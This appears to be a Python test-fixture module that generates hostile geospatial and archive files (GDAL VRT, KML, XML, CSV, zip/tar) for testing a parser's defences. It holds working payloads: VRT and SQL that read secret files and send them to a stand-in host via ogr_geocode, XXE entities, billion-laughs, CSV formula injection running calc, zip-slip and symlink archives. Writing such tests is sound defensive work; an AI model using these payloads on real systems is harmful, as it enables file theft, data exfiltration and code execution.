"""Files of one format under the name of another, as a thief would write them: those that name other
files, hosts or commands.
"""

import io
import tarfile
import zipfile

OGR_VRT = '<OGRVRTDataSource><OGRVRTLayer name="works">{inner}</OGRVRTLayer></OGRVRTDataSource>'
RASTER_VRT = (
    '<VRTDataset rasterXSize="20" rasterYSize="20"><SRS>EPSG:2154</SRS><GeoTransform>704000,5,0,7059100,0,-5</GeoTransform>'
    '<VRTRasterBand dataType="Float32" band="1"{more}>{inner}</VRTRasterBand></VRTDataset>'
)
SOURCE = (
    '<SimpleSource><SourceFilename relativeToVRT="0">{name}</SourceFilename><SourceBand>1</SourceBand>'
    '<SrcRect xOff="0" yOff="0" xSize="20" ySize="20"/><DstRect xOff="0" yOff="0" xSize="20" ySize="20"/></SimpleSource>'
)
STEAL = (
    "<SrcDataSource>{secret}</SrcDataSource><SrcSQL dialect=\"SQLITE\">select num, debut, rue, ogr_geocode(rue, 'raw', "
    "'QUERY_TEMPLATE={elsewhere}/steal?q=%s', 'SERVICE=x', 'DELAY=0') as g from secret</SrcSQL>"
)
DROP = (
    "<SrcDataSource>{secret}</SrcDataSource><SrcSQL dialect=\"SQLITE\">select num, debut, rue, ogr_geocode(rue, 'raw', "
    "'QUERY_TEMPLATE={elsewhere}/x?q=%s', 'CACHE_FILE={folder}/dropped.csv', 'WRITE_CACHE=TRUE', 'DELAY=0') from secret</SrcSQL>"
)
_KML = '<?xml version="1.0"?><kml xmlns="http://www.opengis.net/kml/2.2"><Document>{inner}</Document></kml>'
_XXE = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "{what}">]>{root}'

TEXTS = {
    "vrt-file": OGR_VRT.format(
        inner="<SrcDataSource>{secret}</SrcDataSource><SrcLayer>secret</SrcLayer>"
    ),
    "vrt-steal": OGR_VRT.format(inner=STEAL),
    "vrt-drop": OGR_VRT.format(inner=DROP),
    "vrt-curl": OGR_VRT.format(
        inner="<SrcDataSource>/vsicurl/{elsewhere}/w.csv</SrcDataSource><SrcLayer>w</SrcLayer>"
    ),
    "vrt-http": OGR_VRT.format(inner="<SrcDataSource>{elsewhere}/w.geojson</SrcDataSource>"),
    "vrt-relative": OGR_VRT.format(
        inner='<SrcDataSource relativeToVRT="1">../../../../../../..{secret}</SrcDataSource><SrcLayer>secret</SrcLayer>'
    ),
    "vrt-union": '<OGRVRTDataSource><OGRVRTUnionLayer name="works"><OGRVRTLayer name="secret"><SrcDataSource>{secret}</SrcDataSource>'
    "</OGRVRTLayer></OGRVRTUnionLayer></OGRVRTDataSource>",
    "vrt-late": "\n" * 300
    + OGR_VRT.format(inner="<SrcDataSource>{secret}</SrcDataSource><SrcLayer>secret</SrcLayer>"),
    "vrt-bom": "\ufeff"
    + OGR_VRT.format(inner="<SrcDataSource>{secret}</SrcDataSource><SrcLayer>secret</SrcLayer>"),
    "vrt-upper": OGR_VRT.format(inner="<SrcDataSource>{secret}</SrcDataSource>").replace(
        "OGRVRTDataSource", "ogrvrtdatasource"
    ),
    "vrt-sqlite": OGR_VRT.format(
        inner="<SrcDataSource>{folder}/../cookies.sqlite</SrcDataSource><SrcLayer>secret</SrcLayer>"
    ),
    "raster-vrt": RASTER_VRT.format(more="", inner=SOURCE.format(name="{folder}/../secret.tif")),
    "raster-vrt-curl": RASTER_VRT.format(
        more="", inner=SOURCE.format(name="/vsicurl/{elsewhere}/h.tif")
    ),
    "raster-vrt-python": RASTER_VRT.format(
        more=' subClass="VRTDerivedRasterBand"',
        inner="<PixelFunctionType>f</PixelFunctionType><PixelFunctionLanguage>Python"
        "</PixelFunctionLanguage><PixelFunctionCode><![CDATA[\ndef f(*a, **k):\n    open('{folder}/dropped.py', 'w').write('x')\n]]>"
        "</PixelFunctionCode>" + SOURCE.format(name="{folder}/../secret.tif"),
    ),
    "raster-vrt-raw": RASTER_VRT.format(
        more=' subClass="VRTRawRasterBand"', inner="<SourceFilename>{secret}</SourceFilename>"
    ),
    "raster-vrt-self": RASTER_VRT.format(more="", inner=SOURCE.format(name="h.tif")),
    "gdal-wms": '<GDAL_WMS><Service name="TMS"><ServerUrl>{elsewhere}/${{z}}/${{x}}/${{y}}.png</ServerUrl></Service><DataWindow>'
    "<UpperLeftX>704000</UpperLeftX><UpperLeftY>7059100</UpperLeftY><LowerRightX>704100</LowerRightX><LowerRightY>7059000"
    "</LowerRightY><SizeX>20</SizeX><SizeY>20</SizeY><TileLevel>0</TileLevel></DataWindow><Projection>EPSG:2154"
    "</Projection><BandsCount>1</BandsCount></GDAL_WMS>",
    "wms-caps": "<WMT_MS_Capabilities version='1.1.1'><Service><OnlineResource href='{elsewhere}/wms'/></Service></WMT_MS_Capabilities>",
    "wmts-caps": "<Capabilities xmlns='http://www.opengis.net/wmts/1.0'><ServiceMetadataURL href='{elsewhere}/wmts'/></Capabilities>",
    "wmts-xml": "<GDAL_WMTS><GetCapabilitiesUrl>{elsewhere}/wmts</GetCapabilitiesUrl></GDAL_WMTS>",
    "wcs-xml": "<WCS_GDAL><ServiceURL>{elsewhere}/wcs?</ServiceURL><CoverageName>x</CoverageName></WCS_GDAL>",
    "wfs-xml": "<OGRWFSDataSource><URL>{elsewhere}/wfs</URL></OGRWFSDataSource>",
    "wfs-caps": "<wfs:WFS_Capabilities xmlns:wfs='http://www.opengis.net/wfs/2.0' xmlns:xlink='http://www.w3.org/1999/xlink' "
    "version='2.0.0'><DCP><HTTP><Get xlink:href='{elsewhere}/wfs'/></HTTP></DCP></wfs:WFS_Capabilities>",
    "oapif-xml": "<OGRWFS3DataSource><URL>{elsewhere}/o</URL></OGRWFS3DataSource>",
    "oapif-json": '{{"stac_version":"1.0.0","links":[{{"rel":"data","href":"{elsewhere}/collections","type":"application/json"}}],'
    '"conformsTo":["http://www.opengis.net/spec/ogcapi-features-1/1.0/conf/core"]}}',
    "ogcapi-xml": "<OGCAPI><URL>{elsewhere}/o</URL></OGCAPI>",
    "stacit": '{{"type":"FeatureCollection","stac_version":"1.0.0","features":[{{"type":"Feature","stac_version":"1.0.0","id":"a",'
    '"properties":{{"proj:epsg":2154,"proj:transform":[5,0,704000,0,-5,7059100],"proj:shape":[20,20]}},"collection":"c",'
    '"geometry":null,"assets":{{"a":{{"href":"{elsewhere}/h.tif","proj:transform":[5,0,704000,0,-5,7059100],"proj:shape":[20,20]}}}}}}]}}',
    "stacta": '{{"type":"Feature","stac_version":"1.0.0","stac_extensions":["tiled-assets"],"asset_templates":{{"a":{{"href":'
    '"{elsewhere}/x.tif"}}}},"properties":{{"tiles:tile_matrix_sets":{{}}}}}}',
    "tilejson": '{{"tilejson":"2.2.0","tiles":["{elsewhere}/{{z}}/{{x}}/{{y}}.pbf"],"minzoom":0,"maxzoom":0,"json":"{{}}"}}',
    "arcgis-json": '{{"displayFieldName":"","geometryType":"esriGeometryPoint","fields":[],"exceededTransferLimit":true,"features":[]}}',
    "arcgis-map": '{{"capabilities":"Map","currentVersion":10.8,"mapName":"x","tileInfo":{{"rows":256}},"url":"{elsewhere}/m"}}',
    "geojson-crs": '{{"type":"FeatureCollection","crs":{{"type":"name","properties":{{"name":"{elsewhere}/crs"}}}},"features":[]}}',
    "geojson-link": '{{"type":"FeatureCollection","crs":{{"type":"link","properties":{{"href":"{elsewhere}/crs","type":"proj4"}}}},'
    '"features":[{{"type":"Feature","properties":{{}},"geometry":{{"type":"Point","coordinates":[3,50]}}}}]}}',
    "topojson": '{{"type":"Topology","objects":{{"a":{{"type":"GeometryCollection","geometries":[{{"type":"LineString","arcs":[999999]}}]}}}},"arcs":[[]]}}',
    "jml": "<JCSDataFile xmlns:gml='http://www.opengis.net/gml'><JCSGMLInputTemplate/></JCSDataFile>",
    "kml-link": _KML.format(
        inner="<NetworkLink><Link><href>{elsewhere}/x.kml</href></Link></NetworkLink>"
    ),
    "kml-file": _KML.format(
        inner="<NetworkLink><Link><href>file://{secret}</href></Link></NetworkLink><GroundOverlay><Icon><href>"
        "{folder}/../secret.tif</href></Icon></GroundOverlay>"
    ),
    "kml-deep": _KML.format(inner="<Folder>" * 3_000 + "</Folder>" * 3_000),
    "gml-schema": "<?xml version='1.0'?><ogr:FeatureCollection xmlns:ogr='http://ogr.maptools.org/' xmlns:gml='http://www.opengis.net/gml' "
    "xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance' xsi:schemaLocation='http://ogr.maptools.org/ {elsewhere}/x.xsd'>"
    "<gml:featureMember><ogr:w gml:id='a'><ogr:num>1</ogr:num></ogr:w></gml:featureMember></ogr:FeatureCollection>",
    "gml-xlink": "<?xml version='1.0'?><gml:FeatureCollection xmlns:gml='http://www.opengis.net/gml' xmlns:xlink='http://www.w3.org/1999/xlink'>"
    "<gml:featureMember><w gml:id='a'><gml:pointProperty xlink:href='{elsewhere}/p.xml'/></w></gml:featureMember></gml:FeatureCollection>",
    "georss": "<rss version='2.0'><channel><item><title>a</title><link>{elsewhere}/</link></item></channel></rss>",
    "gpx": "<gpx version='1.1' xmlns='http://www.topografix.com/GPX/1/1'><wpt lat='50' lon='3'><name>a</name></wpt></gpx>",
    "svg": "<svg xmlns='http://www.w3.org/2000/svg'><image href='{elsewhere}/x'/></svg>",
    "xxe-file": _XXE.format(
        what="file://{secret}",
        root="<incidents><incident id='a'><street>&x;</street></incident></incidents>",
    ),
    "xxe-http": _XXE.format(what="{elsewhere}/dtd", root="<feed>&x;</feed>"),
    "xxe-kml": _XXE.format(
        what="file://{secret}",
        root="<kml xmlns='http://www.opengis.net/kml/2.2'><Placemark><name>&x;</name></Placemark></kml>",
    ),
    "laughs": "<!DOCTYPE a [<!ENTITY a0 'ha'>"
    + "".join(f"<!ENTITY a{i} '{f'&a{i - 1};' * 10}'>" for i in range(1, 10))
    + "]><a>&a9;</a>",
    "xml-deep": "<a>" * 50_000,
    "xml-empties": "<incidents>" + "<b/>" * 30_000 + "</incidents>",
    "xml-attrs": "<a " + " ".join(f"a{i}=''" for i in range(20_000)) + "/>",
    "xml-names": "<a xmlns='' xmlns:b='' b:c=''/>",
    "xml-cdata": "<a><![CDATA[" + "]" * 9_000,
    "xml-pi": "<?xml version='1.0' encoding='utf-7'?><a/>",
    "xml-standalone": "<?xml version='9.9' encoding='x' standalone='maybe'?><a/>",
    "xml-exception": "<ServiceExceptionReport><ServiceException>{elsewhere}?token=SECRET</ServiceException></ServiceExceptionReport>",
    "xml-hits": "<a numberMatched='99999999999999999999999'/>",
    "xml-feed": "<feed pagecount='x' totalentries='-4'/>",
    "xml-feed-pages": "<feed pagecount='1e9' totalentries='99'/>",
    "xml-incident": "<incidents><incident/></incidents>",
    "csv-quote": 'num;debut;rue;x;y\n"' + "a" * 200_000,
    "csv-columns": ";".join(["a"] * 5_000) + "\n",
    "csv-cr": "num;debut\r1;2\r\r\n\r",
    "csv-nul": "num;debut\n1;\x00\n",
    "csv-formula": "num;debut;rue;x;y\n=cmd|' /C calc'!A0;2024-06-01;@SUM(1);3.06;50.63\n",
    "csv-same": "num;num;num\n1;2;3\n",
    "csv-nan": "num;debut;rue;x;y\nA;2024-06-01;r;nan;inf\nB;2024-06-01;r;1e309;-1e309\n",
    "csv-far": "num;debut;rue;x;y\nA;2024-06-01;r;180;90\nB;2024-06-01;r;50.63;3.06\n",
    "csvt": '"Integer","Point(X)"\n',
    "prj": 'PROJCS["x"',
    "mapinfo": 'Version 300\nCharset "x"\nColumns 99999999\n',
    "dxf": "0\nSECTION\n2\nENTITIES\n0\nINSERT\n2\nx\n",
    "asc": "ncols 999999999\nnrows 999999999\n",
    "asc-path": "ncols 2\nnrows 2\nxllcorner 704000\nyllcorner 7059000\ncellsize 5\n1 2\n3 nan\n",
    "pg": "PG:host=127.0.0.1 dbname=x",
    "sql": "ATTACH '{folder}/dropped.db' AS a; CREATE TABLE a.b(c);",
    "path": "{secret}",
    "vsi": "/vsicurl/{elsewhere}/x.geojson",
    "pdf": "%PDF-1.7\n1 0 obj<</F({secret})>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF",
    "isis": 'Object = IsisCube\n ^Core = "{secret}"\nEnd_Object\nEnd\n',
    "pds": 'PDS_VERSION_ID = PDS3\n^IMAGE = "{secret}"\nOBJECT=IMAGE\nLINES=2\nLINE_SAMPLES=2\nSAMPLE_BITS=8\nEND_OBJECT\nEND\n',
    "envi": "ENVI\nsamples=20\nlines=20\nbands=1\ndata type=4\nheader offset=0\ninterleave=bsq\n",
    "xyz": "704000 7059000 1\n704005 7059000 x\n",
}


def all_of():
    """[(name, bytes or function(here) → bytes)]."""
    found = []
    for name, text in TEXTS.items():
        if "{" in text and any(f"{{{word}}}" in text for word in ("secret", "folder", "elsewhere")):
            found.append((f"format-{name}", lambda here, t=text: _told(t, here)))
        else:
            found.append((f"format-{name}", text.encode()))
    for name, member in (
        ("zip-vrt", "works.vrt"),
        ("zip-vrt-csv", "works.csv"),
        ("zip-vrt-geojson", "works.geojson"),
        ("zip-vrt-gpkg", "works.gpkg"),
        ("zip-slip", "../../../../{folder}/dropped.csv"),
        ("zip-absolute", "{folder}/dropped.geojson"),
    ):
        found.append(
            (
                f"format-{name}",
                lambda here, m=member: _zip({_word(m, here): _told(TEXTS["vrt-file"], here)}),
            )
        )
    for name, member in (("zip-raster-vrt", "a.vrt"), ("zip-raster-tif", "a.tif")):
        found.append(
            (f"format-{name}", lambda here, m=member: _zip({m: _told(TEXTS["raster-vrt"], here)}))
        )
    found += [
        ("format-zip-link", _zip_link),
        ("format-tar-link", _tar_link),
        ("format-zip-many", _zip({f"{i}.csv": b"a;b\n" for i in range(3_000)})),
        ("format-zip-empty", _zip({})),
        ("format-zip-names", _zip({"\x01.csv": b"a", "é" * 100 + ".csv": b"b"})),
        ("format-zip-same", _zip({"a.csv": b"a"}) + _zip({"b.csv": b"b"})),
        ("format-zip-crypt", _flag(_zip({"a.csv": b"num;debut\n1;2\n"}), 1)),
        ("format-zip-method", _method(_zip({"a.csv": b"num;debut\n1;2\n"}), 93)),
        ("format-zip-method-99", _method(_zip({"a.csv": b"a"}), 99)),
        ("format-zip-in-zip", _zip({"a.zip": _zip({"b.csv": b"a"})})),
        ("format-sqlite", b"SQLite format 3\0" + b"\x10\0\x02\x02" * 300),
        ("format-png", b"\x89PNG\r\n\x1a\n" + b"\0" * 99),
        ("format-exe", b"MZ" + b"\0" * 500),
        ("format-elf", b"\x7fELF" + b"\x02" * 200),
        ("format-7z", b"7z\xbc\xaf'\x1c\0\x04" + b"\xff" * 60),
        ("format-tiff", b"II*\0\x08\0\0\0" + b"\xff" * 400),
        ("format-bigtiff", b"II+\0\x08\0\0\0" + b"\xff" * 100),
        ("format-shp", b"\0\0\x27\x0a" + b"\xff" * 200),
        ("format-parquet", b"PAR1" + b"\xff" * 50 + b"PAR1"),
        ("format-fgb", b"fgb\x03fgb\0" + b"\xff" * 90),
        ("format-hdf", b"\x89HDF\r\n\x1a\n" + b"\xff" * 90),
        ("format-pmtiles", b"PMTiles\x03" + b"\xff" * 119),
        ("format-gz-in-gz", _gz(_gz(b"num;debut\n"))),
        ("format-bz2", b"BZh91AY&SY" + b"\xff" * 40),
        ("format-xz", b"\xfd7zXZ\0" + b"\xff" * 40),
    ]
    return found


def _gz(body):
    import gzip

    return gzip.compress(body, mtime=0)


def _word(text, here):
    return (
        text.replace("{secret}", here.secret)
        .replace("{folder}", here.folder)
        .replace("{elsewhere}", here.elsewhere)
    )


def _told(text, here):
    return _word(text, here).replace("{{", "{").replace("}}", "}").encode()


def _zip(members):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in members.items():
            archive.writestr(name, body)
    return out.getvalue()


def _flag(body, flag):
    """Every entry said to be encrypted."""
    body = bytearray(body)
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = body.find(mark)
        body[at + offset] |= flag
    return bytes(body)


def _method(body, method):
    body = bytearray(body)
    for mark, offset in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):
        at = body.find(mark)
        body[at + offset] = method
    return bytes(body)


def _zip_link(here):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        entry = zipfile.ZipInfo("works.csv")
        entry.create_system, entry.external_attr = 3, 0o120777 << 16
        archive.writestr(entry, here.secret)
    return out.getvalue()


def _tar_link(here):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        entry = tarfile.TarInfo("works.csv")
        entry.type, entry.linkname = tarfile.SYMTYPE, here.secret
        archive.addfile(entry)
    return out.getvalue()
